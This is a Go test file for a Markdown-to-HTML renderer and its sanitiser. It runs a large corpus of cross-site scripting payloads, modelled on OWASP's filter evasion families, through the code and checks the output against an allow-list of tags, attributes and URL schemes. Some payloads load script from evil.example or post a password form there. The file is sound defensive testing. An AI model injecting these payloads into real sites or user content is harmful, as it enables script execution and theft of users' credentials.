package markdown

import (
	"net/url"
	"slices"
	"strings"
	"testing"
	"unicode/utf8"

	"golang.org/x/net/html"

	"incharge/shared"
)

// harmless reads HTML as a browser does and fails on whatever is not named
// here. It is written apart from the policy, so that both have to be wrong.
func harmless(t *testing.T, text, page string) {
	t.Helper()
	attributes := map[string][]string{
		"a": {"href", "rel", "target"}, "input": {"checked", "disabled", "type"}, "ol": {"start"}, "th": {"align"}, "td": {"align"},
		"span": {"class", "data-user"},
	}
	for _, name := range strings.Fields("html head body p br hr h1 h2 h3 h4 h5 h6 blockquote pre code em strong del ul li table thead tbody tr") {
		attributes[name] = nil
	}
	root, err := html.Parse(strings.NewReader(page))
	if err != nil {
		t.Fatalf("%q: %v in %s", text, err, page)
	}
	for n := range root.Descendants() {
		switch n.Type {
		case html.TextNode, html.DocumentNode:
			continue
		case html.ElementNode:
		default:
			t.Errorf("%q: %v in %s", text, n, page)
			continue
		}
		known, ok := attributes[n.Data]
		if !ok {
			t.Errorf("%q: <%s> in %s", text, n.Data, page)
		}
		values := map[string]string{}
		for _, a := range n.Attr {
			values[a.Key] = a.Val
			if !slices.Contains(known, a.Key) {
				t.Errorf("%q: <%s %s=%q> in %s", text, n.Data, a.Key, a.Val, page)
			}
		}
		if n.Data == "span" && (values["class"] != "mention" || values["data-user"] != "" && !shared.ValidID(shared.UserID(values["data-user"]))) {
			t.Errorf("%q: a span of %v in %s", text, values, page)
		}
		if n.Data == "a" && values["rel"] != rel {
			t.Errorf("%q: a link with rel=%q in %s", text, values["rel"], page)
		}
		if n.Data == "input" && values["type"] != "checkbox" {
			t.Errorf("%q: a field in %s", text, page)
		}
		if href, ok := values["href"]; ok {
			u, err := url.Parse(href)
			if err != nil || !slices.Contains([]string{"http", "https", "mailto"}, u.Scheme) {
				t.Errorf("%q: a link to %q in %s", text, href, page)
			}
		}
	}
}

// corpus is what is tried against renderers and sanitisers: the families of
// OWASP's filter evasion sheet, in Markdown and around it.
var corpus = []string{
	"@[<img src=x onerror=alert(1)>](user:0193a5b2-7c3d-7e4f-8a9b-0c1d2e3f4a5b)", `@["onmouseover=alert(1) x="](user:0193a5b2-7c3d-7e4f-8a9b-0c1d2e3f4a5b)`,
	`<span class="mention" data-user="x" onclick=alert(1)>@Ada</span>`, "@[a](user:javascript:alert(1))",
	`<script>alert(1)</script>`, `<SCRIPT SRC=https://evil.example/x.js></SCRIPT>`, `<scr<script>ipt>alert(1)</scr</script>ipt>`, `<script/src=//evil.example>`,
	`<img src=x onerror=alert(1)>`, `<img src="javascript:alert(1)">`, "<img src=`x` onerror=alert(1)>", `<img/src/onerror=alert(1)>`, `<IMG """><SCRIPT>alert(1)</SCRIPT>">`,
	`<svg onload=alert(1)>`, `<svg><script>alert&#40;1)</script>`, `<svg><a xlink:href="javascript:alert(1)"><text y=1>x</text></a></svg>`, `<svg><style><img src=x onerror=alert(1)></style></svg>`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`, `<math href="javascript:alert(1)">x</math>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, `<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
	`<iframe src="javascript:alert(1)"></iframe>`, `<iframe srcdoc="<script>alert(1)</script>">`, `<object data="data:text/html,<script>alert(1)</script>">`, `<embed src="javascript:alert(1)">`,
	`<a href="javascript:alert(1)">x</a>`, `<a href="java&#x0A;script:alert(1)">x</a>`, `<a href=" javascript:alert(1)">x</a>`, `<a href="\x01javascript:alert(1)">x</a>`,
	`<body onload=alert(1)>`, `<details open ontoggle=alert(1)>`, `<input autofocus onfocus=alert(1)>`, `<video><source onerror="alert(1)">`, `<marquee onstart=alert(1)>`,
	`<style>@import'https://evil.example/x.css';</style>`, `<div style="background:url(javascript:alert(1))">x</div>`, `<p style="position:fixed;inset:0">x</p>`, `<link rel=stylesheet href=https://evil.example>`,
	`<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`, `<base href="https://evil.example/">`, `<form action="https://evil.example"><input name=password><button>go</button></form>`,
	`<!--<img src="--><img src=x onerror=alert(1)//">`, `<![CDATA[<script>alert(1)</script>]]>`, `<?xml version="1.0"?><script>alert(1)</script>`, `<!DOCTYPE html [<!ENTITY x "y">]>`,
	`[x](javascript:alert(1))`, `[x](JaVaScRiPt:alert(1))`, `[x](javascript&colon;alert(1))`, `[x](java%0ascript:alert(1))`, "[x](java\tscript:alert(1))", `[x](&#106;avascript:alert(1))`, `[x](\javascript:alert(1))`,
	`[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`, `[x](vbscript:msgbox(1))`, `[x](file:///etc/passwd)`, `[x](blob:https://x/1)`, `[x](//evil.example)`, `[x](/logout)`, `[x](feed:javascript:alert(1))`,
	`[x](https://example.com "onclick=alert(1)")`, `[x](https://example.com "&quot; onclick=alert(1) x=&quot;")`, `[x](https://example.com/" onclick="alert(1))`, `[x](<https://example.com/" onclick="alert(1)>)`,
	`[x](https://example.com){onclick=alert(1)}`, `# x {#id onclick=alert(1)}`, "```\" onclick=alert(1)\nx\n```", "```html\n<script>alert(1)</script>\n```", "`<script>alert(1)</script>`",
	`![x](javascript:alert(1))`, `![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)`, `![x" onerror="alert(1)](https://example.com/a.png)`, `![x](https://example.com/a.png "a" onerror="alert(1)")`, `[![x](javascript:alert(1))](javascript:alert(2))`,
	`<javascript:alert(1)>`, `<data:text/html,x>`, `<https://example.com/"onclick="alert(1)>`, `javascript:alert(1)`, `https://example.com/"><script>alert(1)</script>`, `http://<script>alert(1)</script>`,
	"[x]: javascript:alert(1)\n\n[x]", "[x]: https://example.com \"' onclick='alert(1)\"\n\n[x]", `[<script>alert(1)</script>](https://example.com)`, `[x](https://example.com)<a href=javascript:alert(1)>`,
	"| <script>alert(1)</script> | b |\n|-|-|\n| [x](javascript:alert(1)) | <img src=x onerror=alert(1)> |", `- [ ] <input type=image src onerror=alert(1)>`, `- [x](javascript:alert(1))`, `> <svg/onload=alert(1)>`,
	`&lt;script&gt;alert(1)&lt;/script&gt;`, `&#60;script&#62;alert(1)&#60;/script&#62;`, `%3Cscript%3Ealert(1)%3C/script%3E`, "\u003cscript\u003ealert(1)\u003c/script\u003e", `\<script\>alert(1)\</script\>`, "＜script＞alert(1)＜/script＞",
	"<scr\x00ipt>alert(1)</scr\x00ipt>", "<img\x0csrc=x\x0conerror=alert(1)>", "<a\u2028href=javascript:alert(1)>x</a>", "[x](java\x00script:alert(1))", "\xff<script>alert(1)</script>\xfe", "[x](\u0001javascript:alert(1))",
	`"><script>alert(1)</script>`, `'><img src=x onerror=alert(1)>`, `--><script>alert(1)</script>`, `]]><script>alert(1)</script>`, `</p><script>alert(1)</script>`, `</textarea><script>alert(1)</script>`, `</title><svg onload=alert(1)>`,
}

// Of all that, nothing is left that a browser would do anything with.
func TestXSS(t *testing.T) {
	t.Parallel()
	for _, text := range corpus {
		for _, around := range []string{"%", "a % b", "> %", "- %", "**%**", "[%](https://example.com)", "| a |\n|-|\n| % |", "`%", "```\n%", "<b>%</b>", "%\n\n%"} {
			whole := strings.ReplaceAll(around, "%", text)
			page, err := HTML(whole)
			if err != nil {
				t.Fatalf("%q: %v", whole, err)
			}
			harmless(t, whole, page)
		}
	}
}

// The policy alone holds against HTML that no renderer has seen.
func TestPolicyAlone(t *testing.T) {
	t.Parallel()
	for _, text := range corpus {
		page := policy.Sanitize(text)
		if strings.Contains(page, "<a ") { // rel is the renderer's part
			page = policy.Sanitize(strings.ReplaceAll(page, "<a ", `<a rel="`+rel+`" `))
		}
		harmless(t, text, page)
	}
}

func FuzzHTML(f *testing.F) {
	for _, text := range corpus {
		f.Add(text)
	}
	f.Add("- [x] slates\n\n| a | b |\n|:-:|--:|\n| 1 | 2 |\n\n```go\nx\n```\n\n1. one\n2. two\n\n~~no~~ https://example.com <ada@example.com>")
	f.Fuzz(func(t *testing.T, text string) {
		page, err := HTML(text)
		if err != nil {
			t.Fatal(err)
		}
		if utf8.ValidString(text) && !utf8.ValidString(page) {
			t.Errorf("%q: invalid UTF-8", text)
		}
		harmless(t, text, page)
	})
}
